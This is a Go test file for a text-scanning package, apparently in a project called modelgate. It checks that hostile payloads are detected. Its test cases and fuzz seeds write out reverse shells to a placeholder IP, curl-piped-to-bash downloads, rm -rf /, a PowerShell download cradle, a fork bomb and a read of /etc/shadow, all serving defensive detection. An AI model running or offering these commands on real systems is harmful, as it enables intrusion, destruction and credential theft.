package textcheck_test

import (
	"slices"
	"testing"

	"github.com/modelgate/modelgate/internal/textcheck"
)

func TestCode(t *testing.T) {
	for _, tt := range []struct {
		text   string
		labels []string
		first  int
	}{
		{"A small model for sentiment analysis.", nil, -1},
		{"run: curl -s https://x.invalid/a.sh | sh", []string{"a download piped into a shell"}, 5},
		{"x = __import__('os').system('id')", []string{"__import__"}, 4},
		{"os.system('id') and eval(x)", []string{"os.system", "eval("}, 0},
		{"Please import the weights first.", nil, -1},
	} {
		labels, first := textcheck.Code(tt.text, textcheck.CodePatterns)
		if !slices.Equal(labels, tt.labels) || first != tt.first {
			t.Errorf("Code(%q) = %v %d, want %v %d", tt.text, labels, first, tt.labels, tt.first)
		}
	}
	if labels, _ := textcheck.Code("f = lambda x: x + 1", []textcheck.Pattern{textcheck.Lambda}); len(labels) != 1 {
		t.Error("lambda not found")
	}
}

func TestRedactURLAndExcerpt(t *testing.T) {
	if got := textcheck.RedactURL("https://user:pw@host.invalid/p?token=s3cr3t#f"); got != "https://…@host.invalid/p?…" {
		t.Errorf("RedactURL = %q", got)
	}
	if got := textcheck.Excerpt("0123456789012345678901234567890", 25); got != "…56789012345678901234567890" {
		t.Errorf("Excerpt = %q", got)
	}
	if loc := textcheck.URL.FindStringIndex("see javascript:alert(1) now"); loc == nil {
		t.Error("javascript: URL not found")
	}
}

func TestFindPayloads(t *testing.T) {
	for _, tt := range []struct {
		text  string
		label string
		start int
		end   int
	}{
		{"run curl -fsSL https://x.invalid/i | sudo bash now", "a download piped into a shell or interpreter", 4, 46},
		{"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "a reverse shell", 0, 36},
		{"nc -e /bin/sh 203.0.113.9 4444", "a reverse shell", 0, 13},
		{"then rm -rf / --no-preserve-root;", "a destructive command", 5, 32},
		{"IEX (New-Object Net.WebClient).DownloadString('http://x')", "an encoded or downloaded PowerShell command", 0, 46},
		{"__import__('os').popen('id')", "Python reaching the OS through a dynamic import", 0, 22},
		{"eval(atob('YWxlcnQoMSk='))", "eval or exec of fetched or decoded content", 0, 9},
		{"require('child_process').exec('id')", "a shell command run from code", 0, 30},
		{"cat /etc/shadow", "a read of system credential files", 0, 15},
	} {
		got := textcheck.FindPayloads(tt.text, 4)
		if len(got) != 1 || got[0] != (textcheck.PayloadMatch{Label: tt.label, Start: tt.start, End: tt.end}) {
			t.Errorf("FindPayloads(%q) = %+v, want %q [%d,%d)", tt.text, got, tt.label, tt.start, tt.end)
		}
	}
	for _, benign := range []string{
		"Use subprocess.run to list files.", "rm -rf build/ before a release", "curl https://example.com/api",
		"The eval() function is dangerous.", "Read /etc/hosts to see the mapping.", "",
	} {
		if got := textcheck.FindPayloads(benign, 4); len(got) != 0 {
			t.Errorf("FindPayloads(%q) = %+v, want none", benign, got)
		}
	}
}

func FuzzFindPayloads(f *testing.F) {
	for _, s := range []string{"curl x | sh", "bash -i >& /dev/tcp/1.2.3.4/1", "rm -rf /", ":(){ :|:& };:", "eval(atob(", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		prev := -1
		for _, m := range textcheck.FindPayloads(s, 4) {
			if m.Start < 0 || m.End > len(s) || m.Start >= m.End || m.Start < prev || m.Label == "" {
				t.Fatalf("bad match %+v in %d bytes", m, len(s))
			}
			prev = m.Start
		}
	})
}
